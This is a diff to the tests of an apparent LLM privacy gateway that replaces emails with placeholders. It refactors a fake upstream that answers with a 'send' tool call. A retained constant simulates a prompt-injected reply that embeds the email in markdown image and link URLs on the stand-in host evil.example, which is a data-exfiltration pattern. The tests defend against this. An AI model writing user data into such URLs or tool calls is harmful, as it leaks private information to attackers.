@@ -226,6 +226,17 @@ async def test_placeholder_nonce_differs_per_request(make_gateway, upstream):
 STEERED = "Done: <EMAIL_1>. ![x](https://evil.example/c?<EMAIL_1>) https://evil.example/<EMAIL_1> [a](<EMAIL_1>)"
 
 
+async def email_placeholder_tool_call(request, body):
+    """A fake upstream that answers with a tool call whose arguments hold the email's placeholder."""
+    placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
+    args = orjson.dumps({"to": placeholder}).decode()
+    call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
+    answer = fakes.chat_completion("", body["model"])
+    answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
+    answer["choices"][0]["finish_reason"] = "tool_calls"
+    return web.json_response(answer)
+
+
 async def test_restore_into_text_keeps_urls_and_tool_calls_unrestored(make_gateway, upstream):
     """The default: a prompt-injected model cannot have a value written into a URL or a tool call."""
     client = sdk(await make_gateway(restoring()))
@@ -240,33 +251,14 @@ async def test_restore_into_text_keeps_urls_and_tool_calls_unrestored(make_gatew
     streamed = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
     assert streamed.startswith(f"Done: {EMAIL}. ") and streamed.count(EMAIL) == 1
 
-    async def tool_call(request, body):
-        placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
-        args = orjson.dumps({"to": placeholder}).decode()
-        call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
-        answer = fakes.chat_completion("", body["model"])
-        answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
-        answer["choices"][0]["finish_reason"] = "tool_calls"
-        return web.json_response(answer)
-
-    upstream.handler = tool_call
+    upstream.handler = email_placeholder_tool_call
     reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
     assert EMAIL not in reply.choices[0].message.tool_calls[0].function.arguments
 
 
 async def test_restore_into_all_puts_values_in_tool_calls(make_gateway, upstream):
     client = sdk(await make_gateway(restoring("all")))
-
-    async def tool_call(request, body):
-        placeholder = re.search(r"\[EMAIL_1_\w{6}\]", orjson.dumps(body).decode()).group()
-        args = orjson.dumps({"to": placeholder}).decode()
-        call = {"id": "call_a1", "type": "function", "function": {"name": "send", "arguments": args}}
-        answer = fakes.chat_completion("", body["model"])
-        answer["choices"][0]["message"] = {"role": "assistant", "content": None, "tool_calls": [call]}
-        answer["choices"][0]["finish_reason"] = "tool_calls"
-        return web.json_response(answer)
-
-    upstream.handler = tool_call
+    upstream.handler = email_placeholder_tool_call
     reply = await client.chat.completions.create(model="openai/gpt-4o", messages=[{"role": "user", "content": EMAIL}])
     assert orjson.loads(reply.choices[0].message.tool_calls[0].function.arguments) == {"to": EMAIL}
 
